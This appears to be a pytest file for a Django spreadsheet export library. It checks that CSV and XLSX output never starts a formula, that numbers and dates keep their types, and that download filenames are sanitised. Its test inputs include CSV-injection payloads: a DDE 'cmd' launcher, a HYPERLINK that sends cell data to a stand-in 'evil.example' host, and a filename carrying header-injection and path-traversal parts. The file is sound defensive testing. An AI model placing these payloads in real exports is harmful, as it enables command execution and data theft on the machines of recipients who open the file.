"""What goes out as a file opens as it was meant: text stays text, numbers stay numbers, nothing starts a formula."""

import csv
import io
from datetime import UTC, date, datetime
from itertools import product

import pytest
from django.http import StreamingHttpResponse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from hyte.tables.cells import clean
from hyte.tables.numbers import parse
from hyte.tables.reading import read
from hyte.tables.wreckage import found_in
from hyte.tables.writing import Sheet, Value, csv_bytes, response, xlsx_bytes
from hyte.text import spaced
from tests.hostile.strings import HOSTILE

BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", " =", "'=", "''=", "＝", "＋", "－", "＠", "\x1b="]
ENDINGS = ["1+1", "cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1;"Avaa")', "SUM(A1:A9)", ""]
EIGHTY = [beginning + ending for beginning, ending in product(BEGINNINGS, ENDINGS)]


def one(*values: Value) -> Sheet:
    return Sheet("Taulu", [f"h{place}" for place in range(len(values))], [values])


def cells_of(data: bytes) -> list[tuple[str, object]]:
    book = load_workbook(io.BytesIO(data))
    return [(cell.data_type, cell.value) for row in book.active.iter_rows(min_row=2) for cell in row]


def csv_cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    return [cell for row in rows[1:] for cell in row]


def test_no_hostile_string_becomes_a_formula_in_a_workbook():
    strings = [*EIGHTY, *HOSTILE.values()]
    assert len(EIGHTY) == 80
    data = xlsx_bytes(Sheet("Taulu", ["a"], [[text] for text in strings]))
    found = cells_of(data)
    assert len(found) == len(strings)
    assert [kind for kind, _value in found if kind == "f"] == []
    assert {kind for kind, _value in found} <= {"s", "n"}  # n: what nothing was left of
    sheet = load_workbook(io.BytesIO(data)).active
    assert [sheet.cell(row, 1).quotePrefix for row in range(2, 6)] == [True] * 4
    assert read(data).refused == []


def test_no_hostile_string_starts_a_formula_in_csv():
    strings = [*EIGHTY, *HOSTILE.values()]
    data = csv_bytes(Sheet("Taulu", ["a"], [[text] for text in strings]))
    live = [cell for cell in csv_cells(data) if cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
    assert live == []
    assert b"\0" not in data


def test_text_with_another_separator_stays_in_its_cell():
    """Opened by a program that separates by commas or tabs, nothing after one begins a cell."""
    data = csv_bytes(one('Lemi,=1+1\t=2+2";=3+3', 5)).decode("utf-8-sig")
    assert data == '"h0";"h1"\r\n"Lemi,=1+1\t=2+2"";=3+3";5\r\n'


def test_numbers_stay_numbers_and_dates_dates():
    moment = datetime(2026, 9, 5, 6, 0, tzinfo=UTC)
    values = [-3, 1234.5, 0.1, 1e-7, 2.5e20, None, date(2026, 9, 5), moment, "-3", "416"]
    assert csv_cells(csv_bytes(one(*values))) == [
        "-3",
        "1234,5",
        "0,1",
        "0,0000001",
        "250000000000000000000",
        "",
        "5.9.2026",
        "5.9.2026 9.00",
        "'-3",
        "416",
    ]
    found = cells_of(xlsx_bytes(one(*values)))
    assert found == [
        ("n", -3),
        ("n", 1234.5),
        ("n", 0.1),
        ("n", 1e-7),
        ("n", 2.5e20),
        ("n", None),
        ("d", datetime(2026, 9, 5)),
        ("d", datetime(2026, 9, 5, 9, 0)),
        ("s", "-3"),
        ("s", "416"),
    ]


def test_a_workbook_is_ready_to_be_read():
    """The headings stay in sight and are bold, the columns are wide enough, a choice has its list."""
    made = Sheet("Kunnat: 2026/27", ["Kunta", "Nimi"], [["Lemi", "x" * 90]], choices={0: ["Lemi", "Imatra"]})
    book = load_workbook(io.BytesIO(xlsx_bytes(made)))
    sheet = book.active
    assert (book.sheetnames, sheet.freeze_panes) == (["Kunnat  2026 27"], "A2")
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [10, 60]
    assert [cell.font.b for cell in sheet[1]] == [True, True]
    [rule] = sheet.data_validations.dataValidation
    assert (rule.formula1, str(rule.sqref)) == ('"Lemi,Imatra"', "A2:A2000")


def test_csv_is_streamed_row_by_row_under_a_plain_name():
    asked = []

    def rows():
        for number in range(3):
            asked.append(number)
            yield [number]

    answer = response(Sheet("Nostot", ["n"], rows()), "csv", "Etelä-Karjala/../\r\nX: y", 2026)
    assert isinstance(answer, StreamingHttpResponse)
    assert asked == []
    assert answer.getvalue().decode("utf-8-sig") == '"n"\r\n0\r\n1\r\n2\r\n'
    assert answer.headers["Content-Disposition"] == 'attachment; filename="nostot-etela-karjala-x-y-2026.csv"'
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    workbook = response(Sheet("Taulu", ["n"], [[1]]), "xlsx", "x")
    assert cells_of(workbook.content) == [("n", 1)]


TEXT = (
    st.text(alphabet=st.characters(codec="utf-8"), max_size=30)
    .map(lambda text: spaced(clean(text)))
    .filter(lambda text: not found_in(text))
)
NUMBER = st.one_of(
    st.integers(-(10**12), 10**12), st.floats(allow_nan=False, allow_infinity=False, min_value=-1e15, max_value=1e15)
)


@given(st.lists(st.tuples(TEXT, NUMBER), min_size=1, max_size=8))
@settings(max_examples=150, deadline=None)
def test_what_was_written_is_read_back(rows: list[tuple[str, float]]):
    made = [["x", text, number] for text, number in rows]
    for data in (
        csv_bytes(Sheet("T", ["a", "text", "number"], made)),
        xlsx_bytes(Sheet("T", ["a", "text", "number"], made)),
    ):
        table = read(data)
        assert [row["text"] for row in table] == [text for text, _number in rows]
        assert [parse(row["number"]) for row in table] == pytest.approx([number for _text, number in rows], rel=1e-14)
        assert table.refused == []
